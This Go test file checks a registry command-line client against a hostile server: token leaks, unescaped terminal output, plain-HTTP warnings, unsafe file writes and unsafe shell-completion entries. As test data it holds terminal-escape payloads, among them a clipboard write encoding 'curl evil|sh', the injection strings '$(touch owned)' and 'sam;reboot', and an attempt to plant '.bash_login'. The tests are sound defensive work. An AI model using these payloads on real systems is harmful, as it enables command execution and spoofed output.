package cli_test

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/chancery/chancery/internal/cli"
	"github.com/chancery/chancery/internal/seal"
)

// tokenSpy is a registry that passes every request on to the registry at base and records
// the Authorization headers it was sent.
type tokenSpy struct {
	*httptest.Server
	mu   sync.Mutex
	auth []string
}

func newTokenSpy(t *testing.T, base string) *tokenSpy {
	t.Helper()
	u, err := url.Parse(base)
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(u)
	s := &tokenSpy{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if a := r.Header.Get("Authorization"); a != "" {
			s.mu.Lock()
			s.auth = append(s.auth, r.Method+" "+r.URL.Path+": "+a)
			s.mu.Unlock()
		}
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *tokenSpy) sent() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.auth...)
}

// TestTrustRootURLGetsNoMemberToken: verify and seal refresh go to the address a trust root
// names when CHANCERY_URL and --url are not given. Trust roots are handed around (a
// journalist's, another office's), and CHANCERY_TOKEN is the member's token for the registry
// at CHANCERY_URL: sent to the trust root's address, it went to whoever wrote the trust root.
func TestTrustRootURLGetsNoMemberToken(t *testing.T) {
	o := newOffice(t)
	dir, _, file, bare, _ := o.releasedForReplay(t)
	spy := newTokenSpy(t, o.url)
	root := o.reg.TrustRoot()
	root.BaseURL = spy.URL // another office's trust root, naming its own registry
	tb, err := root.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	trust := filepath.Join(dir, "other-trust.json")
	if err := os.WriteFile(trust, tb, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("CHANCERY_URL", "")
	t.Setenv("CHANCERY_TOKEN", o.tokens["dana"])
	for _, args := range [][]string{
		{"verify", bare, "--trust", trust},
		{"seal", "refresh", file + ".seal", "--trust", trust},
	} {
		var stdout, stderr bytes.Buffer
		code := cli.Main(args, &stdout, &stderr)
		if code != cli.ExitOK {
			t.Fatalf("%v: exit %d\n%s%s", args, code, stdout.String(), stderr.String())
		}
	}
	if got := spy.sent(); len(got) != 0 {
		t.Fatalf("the member's token went to the trust root's address:\n%q", got)
	}
}

// TestRegistryTextReachesNoTerminalRaw: what a registry answers (a letter's subject, a
// comment, a withdrawal's reason, an error message) reaches the terminal escaped from every
// command, as verify's and sign's output do: a registry, or someone answering in its place
// over plain HTTP, could otherwise erase lines, print fake ones or reorder what is shown.
// Line breaks a command prints are kept.
func TestRegistryTextReachesNoTerminalRaw(t *testing.T) {
	const ref = "TFN-2026-000001"
	const evil = "\x1b[2K\r\u202eapproved\x1b]52;c;Y3VybCBldmlsfHNo\a"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == "GET" && r.URL.Path == "/api/v1/letters/"+ref:
			json.NewEncoder(w).Encode(map[string]any{"reference": ref, "subject": "Coordination" + evil, "state": "released",
				"addressees": []string{"Ministry" + evil}, "approvals": []map[string]any{{"decision": "approve", "member": "rita", "comment": evil}},
				"release":    map[string]any{"version": 1, "by": "otto", "file_name": "letter.pdf", "file_digest": "sha256:00"},
				"withdrawal": map[string]any{"kind": "retraction", "member": "sam", "reason": "issued in error" + evil}})
		default:
			w.WriteHeader(http.StatusConflict)
			json.NewEncoder(w).Encode(map[string]any{"error": "refused" + evil})
		}
	}))
	defer srv.Close()
	t.Setenv("CHANCERY_URL", srv.URL)
	t.Setenv("CHANCERY_TOKEN", "chy_token")
	for _, args := range [][]string{
		{"letter", "show", ref},
		{"audit", ref},
		{"letter", "erase", ref, "--reason", "asked", "--yes"},
	} {
		var stdout, stderr bytes.Buffer
		cli.Main(args, &stdout, &stderr)
		out := stdout.String() + stderr.String()
		if strings.ContainsAny(out, "\x1b\r\a\u202e") || !strings.Contains(out, `\x1b[2K\r\u202e`) {
			t.Errorf("%v: the registry's text reached the terminal unescaped:\n%q", args, out)
		}
		if !strings.Contains(out, "\n") {
			t.Errorf("%v: no line breaks left:\n%q", args, out)
		}
	}
}

// TestPlainHTTPTokenWarns: a member's token sent to a registry on another machine over plain
// HTTP can be read and replayed by anyone on the way; the command says so. A registry on this
// machine (the default address) and a command without a token are quiet.
func TestPlainHTTPTokenWarns(t *testing.T) {
	const warning = "plain http: the token crosses the network unencrypted"
	for _, c := range []struct {
		url, token string
		warn       bool
	}{
		{"http://registry.invalid:1", "chy_token", true},
		{"https://registry.invalid:1", "chy_token", false},
		{"http://127.0.0.1:1", "chy_token", false},
		{"http://localhost:1", "chy_token", false},
		{"http://[::1]:1", "chy_token", false},
	} {
		t.Setenv("CHANCERY_URL", c.url)
		t.Setenv("CHANCERY_TOKEN", c.token)
		var stdout, stderr bytes.Buffer
		cli.Main([]string{"letter", "show", "TFN-2026-000001", "--url", c.url}, &stdout, &stderr)
		if got := strings.Contains(stderr.String(), warning); got != c.warn {
			t.Errorf("%s: warned %v, want %v\n%s", c.url, got, c.warn, stderr.String())
		}
	}
}

// hostileRelease is a registry whose answers about ref name another reference (answered),
// and whose released file is data while its answers give digest.
func hostileRelease(t *testing.T, ref, answered string, data []byte, digest string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rel := map[string]any{"version": 1, "by": "otto", "file_name": "letter", "file_digest": digest}
		switch {
		case r.URL.Path == "/api/v1/letters/"+ref && r.Method == "GET":
			json.NewEncoder(w).Encode(map[string]any{"reference": answered, "state": "released", "release": rel,
				"versions": []map[string]any{{"n": 1, "digest": "sha256:00", "file_name": "letter"}}})
		case r.URL.Path == "/api/v1/letters/"+ref+"/release":
			json.NewEncoder(w).Encode(map[string]any{"reference": answered, "log_index": 7, "file_name": "letter",
				"file_digest": digest, "seal": json.RawMessage(`{"seal":1}`)})
		case strings.HasSuffix(r.URL.Path, "/file"):
			w.Write(data)
		case strings.HasSuffix(r.URL.Path, "/seal"):
			w.Write([]byte(`{"seal":1}`))
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

// TestReleasedFileIsTheLetterAsked: `letter fetch` and `release` write the released file
// under the reference the user named, and only if the registry's answer is about that letter
// and the bytes sent are the released file's. A registry answering with another reference
// (".bash_login", in a home directory, is a file the shell runs at the next login) or with
// bytes other than the file it says it released got them written.
func TestReleasedFileIsTheLetterAsked(t *testing.T) {
	const ref = "TFN-2026-000001"
	data := []byte("echo owned\n")
	genuine := string(seal.DigestOf(data))
	for _, c := range []struct {
		name, answered, digest string
		args                   []string
	}{
		{"fetch, another reference", ".bash_login", genuine, []string{"letter", "fetch", ref}},
		{"release, another reference", ".bash_login", genuine, []string{"release", ref, "--version", "sha256:00"}},
		{"release, another file", ref, string(seal.DigestOf([]byte("the letter"))), []string{"release", ref, "--version", "sha256:00"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			srv := hostileRelease(t, ref, c.answered, data, c.digest)
			dir := t.TempDir()
			t.Setenv("CHANCERY_URL", srv.URL)
			t.Setenv("CHANCERY_TOKEN", "chy_token")
			var stdout, stderr bytes.Buffer
			code := cli.Main(append(c.args, "--out", dir), &stdout, &stderr)
			written, _ := filepath.Glob(filepath.Join(dir, "*"))
			hidden, _ := filepath.Glob(filepath.Join(dir, ".*"))
			if code == cli.ExitOK || len(written)+len(hidden) != 0 {
				t.Fatalf("exit %d, wrote %q %q\n%s%s", code, written, hidden, stdout.String(), stderr.String())
			}
		})
	}
}

// TestTokenFileReadableByOthersWarns: a token file its group or others can read is warned
// about (refusing it would break tokens saved with a shell's redirection); a private one is
// used quietly.
func TestTokenFileReadableByOthersWarns(t *testing.T) {
	o := newOffice(t)
	ref := o.letter("Coordination", "foreign-government", "# Coordination\n\nSir, version one.\n")
	file := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(file, []byte(o.tokens["dana"]+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("CHANCERY_URL", o.url)
	t.Setenv("CHANCERY_TOKEN", "")
	t.Setenv("CHANCERY_TOKEN_FILE", file)
	var stdout, stderr bytes.Buffer
	if code := cli.Main([]string{"letter", "show", ref}, &stdout, &stderr); code != cli.ExitOK || !strings.Contains(stderr.String(), "warning: CHANCERY_TOKEN_FILE "+file+" can be read or changed by others (mode -rw-r--r--): chmod 600 it") {
		t.Fatalf("a token file of mode 0644: exit %d\n%s", code, stderr.String())
	}
	if err := os.Chmod(file, 0o600); err != nil {
		t.Fatal(err)
	}
	stderr.Reset()
	if code := cli.Main([]string{"letter", "show", ref}, &stdout, &stderr); code != cli.ExitOK || strings.Contains(stderr.String(), "warning") {
		t.Fatalf("a token file of mode 0600: exit %d\n%s", code, stderr.String())
	}
}

// TestCompletionOffersOnlyPlainReferences: shell completion offers what the registry lists;
// a reference or name with a line break, a space, a shell character or an escape sequence
// (which the shell would show raw, or put on the command line) is left out, and descriptions
// are escaped.
func TestCompletionOffersOnlyPlainReferences(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/api/v1/letters":
			json.NewEncoder(w).Encode(map[string]any{"letters": []map[string]any{
				{"reference": "TFN-2026-000001", "subject": "Coordination\x1b]0;owned\a"},
				{"reference": "TFN-2026-000002 $(touch owned)", "subject": "x"},
				{"reference": "TFN-2026-000003\nTFN-2026-000004", "subject": "x"},
				{"reference": "TFN-2026-000005\x1b[2K", "subject": "x"},
			}})
		case "/api/v1/members":
			json.NewEncoder(w).Encode([]map[string]any{{"name": "rita", "roles": []string{"reviewer\x1b[2K"}}, {"name": "sam;reboot", "roles": []string{"signer"}}})
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	t.Setenv("CHANCERY_URL", srv.URL)
	t.Setenv("CHANCERY_TOKEN", "chy_token")
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"__complete", "letter", "show", ""}, "TFN-2026-000001\tCoordination"},
		{[]string{"__complete", "member", "show", ""}, "rita\treviewer"},
	} {
		var stdout, stderr bytes.Buffer
		cli.Main(c.args, &stdout, &stderr)
		out := stdout.String()
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if strings.ContainsAny(out, "\x1b\a") || strings.Contains(out, "touch") || strings.Contains(out, "reboot") ||
			len(lines) != 2 || !strings.HasPrefix(lines[0], c.want) {
			t.Errorf("%v: offered\n%q", c.args, out)
		}
	}
}

// TestTrustExportWritesOnlyATrustRoot: `trust export` writes what the registry sends only if
// it is a trust root, so that no bytes of its choosing reach the terminal (--out -) or a
// file verifiers are told to pin.
func TestTrustExportWritesOnlyATrustRoot(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte("\x1b]52;c;Y3VybCBldmlsfHNo\a\x1b[2Kwrote trust.json\n"))
	}))
	defer srv.Close()
	t.Setenv("CHANCERY_URL", srv.URL)
	t.Setenv("CHANCERY_TOKEN", "")
	file := filepath.Join(t.TempDir(), "trust.json")
	for _, out := range []string{"-", file} {
		var stdout, stderr bytes.Buffer
		code := cli.Main([]string{"trust", "export", "--out", out}, &stdout, &stderr)
		_, err := os.Stat(file)
		if code == cli.ExitOK || strings.ContainsAny(stdout.String()+stderr.String(), "\x1b\a") || err == nil {
			t.Fatalf("--out %s: exit %d, file written: %v\n%q %q", out, code, err == nil, stdout.String(), stderr.String())
		}
	}
}
